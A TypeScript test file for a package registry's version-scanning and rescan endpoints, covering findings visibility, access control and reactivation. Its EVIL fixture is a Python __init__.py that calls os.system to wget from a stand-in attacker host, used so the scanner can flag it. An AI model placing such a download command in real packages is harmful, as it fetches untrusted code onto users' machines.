import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertNode, insertPublisher, insertUser } from '#test/factories.ts';
import { signUp, uniqueEmail, type EmulatorUser } from '#test/firebase-emulator.ts';
import { insertUploadedVersion } from '#test/publish.ts';
import { createTestApp, type TestApp } from '#test/test-app.ts';
import { buildZip } from '#test/zip.ts';
import type { PublisherRow } from '../../db/rows.ts';
import { jobs, nodeVersions } from '../../db/schema/index.ts';
import { enqueueJob } from '../../jobs/queue.ts';
import { VERSION_SCAN_JOB } from '../../services/moderation/scan-version.ts';

const EVIL = {
  '__init__.py': 'import os\nos.system("wget https://evil.example/x")\nNODE_CLASS_MAPPINGS = {}\n',
};
const FIXED = { '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n' };

describe('findings and rescan of a version', () => {
  let t: TestApp;
  let publisher: PublisherRow;
  let owner: EmulatorUser;
  let member: EmulatorUser;
  let stranger: EmulatorUser;
  let admin: EmulatorUser;
  let versionId: string;
  const base = () => `/publishers/${publisher.id}/nodes/held-pack/versions/1.0.0`;

  beforeAll(async () => {
    t = await createTestApp();
    [owner, member, stranger, admin] = (await Promise.all(
      [1, 2, 3, 4].map((i) => signUp({ email: uniqueEmail(`f${i}`), emailVerified: true })),
    )) as [EmulatorUser, EmulatorUser, EmulatorUser, EmulatorUser];
    const ownerRow = await insertUser(t.services.db, { id: owner!.uid, email: owner!.email });
    const memberRow = await insertUser(t.services.db, { id: member!.uid, email: member!.email });
    await insertUser(t.services.db, { id: admin!.uid, email: admin!.email, isAdmin: true });
    publisher = await insertPublisher(t.services.db, { owner: ownerRow, members: [memberRow] });
    await insertNode(t.services.db, { publisherId: publisher.id, id: 'held-pack' });
    const version = await insertUploadedVersion(t.services, {
      publisherId: publisher.id,
      nodeId: 'held-pack',
      version: '1.0.0',
      bytes: buildZip(EVIL),
      status: 'NodeVersionStatusPending',
    });
    versionId = version.id;
    await enqueueJob(t.services.db, VERSION_SCAN_JOB, { versionId });
    await t.runJobs();
  });
  afterAll(() => t.close());

  it('shows members and admins the findings of their flagged version', async () => {
    for (const viewer of [owner, member, admin]) {
      const response = await t.request(`${base()}/findings`, { token: viewer.idToken });
      expect(response.status).toBe(200);
      const body = (await response.json()) as Record<string, unknown>;
      expect(body).toMatchObject({
        node_id: 'held-pack',
        version: '1.0.0',
        status: 'NodeVersionStatusFlagged',
        scan: { outcome: 'flagged', files_scanned: 1, skipped: 0 },
        scan_queued: false,
        // The scanner decided: structured findings, no English sentence to show as the reason.
        reason: { source: 'scan', text: null },
        review_request: null,
        findings: [
          {
            rule_id: 'PY020',
            severity: 'high',
            file: '__init__.py',
            line: 2,
            snippet: 'os.system("wget https://evil.example/x")',
          },
        ],
      });
    }
  });

  it('hides them from anonymous callers (401) and strangers (403); unknown versions are 404', async () => {
    expect((await t.request(`${base()}/findings`)).status).toBe(401);
    expect((await t.request(`${base()}/findings`, { token: stranger.idToken })).status).toBe(403);
    const missing = await t.request(`/publishers/${publisher.id}/nodes/held-pack/versions/9.9.9/findings`, {
      token: owner.idToken,
    });
    expect(missing.status).toBe(404);
    const otherPublisher = await t.request(`/publishers/nobody-here/nodes/held-pack/versions/1.0.0/findings`, {
      token: admin.idToken,
    });
    expect(otherPublisher.status).toBe(404);
  });

  it('lets members queue a rescan (202), once while one waits; strangers get 403', async () => {
    expect((await t.request(`${base()}/rescan`, { method: 'POST' })).status).toBe(401);
    expect((await t.request(`${base()}/rescan`, { method: 'POST', token: stranger.idToken })).status).toBe(403);
    const first = await t.request(`${base()}/rescan`, { method: 'POST', token: member.idToken });
    expect(first.status).toBe(202);
    expect(await first.json()).toEqual({ queued: true });
    const second = await t.request(`${base()}/rescan`, { method: 'POST', token: owner.idToken });
    expect(await second.json()).toEqual({ queued: false });
    expect((await t.services.db.select().from(jobs).where(eq(jobs.status, 'queued'))).length).toBe(1);
  });

  it('activates the version when the rescan is clean (the scanner had flagged it)', async () => {
    // The publisher cannot change a published zip; here the stored bytes are swapped to stand in
    // for a rule-set fix that clears the finding.
    await t.runJobs();
    const [row] = await t.services.db.select().from(nodeVersions).where(eq(nodeVersions.id, versionId));
    expect(row!.status).toBe('NodeVersionStatusFlagged');
    const { archives } = await import('../../db/schema/index.ts');
    const [archive] = await t.services.db.select().from(archives).where(eq(archives.id, row!.archiveId!));
    const fixed = buildZip(FIXED);
    await t.services.storage.put(archive!.key, fixed, 'application/zip');
    const { createHash } = await import('node:crypto');
    await t.services.db
      .update(archives)
      .set({ sha256: createHash('sha256').update(fixed).digest('hex') })
      .where(eq(archives.id, archive!.id));
    await t.request(`${base()}/rescan`, { method: 'POST', token: owner.idToken });
    await t.runJobs();
    const response = await t.request(`${base()}/findings`, { token: owner.idToken });
    expect(await response.json()).toMatchObject({ status: 'NodeVersionStatusActive', findings: [] });
  });

  it('refuses to rescan an Active version (409)', async () => {
    const response = await t.request(`${base()}/rescan`, { method: 'POST', token: owner.idToken });
    expect(response.status).toBe(409);
  });
});
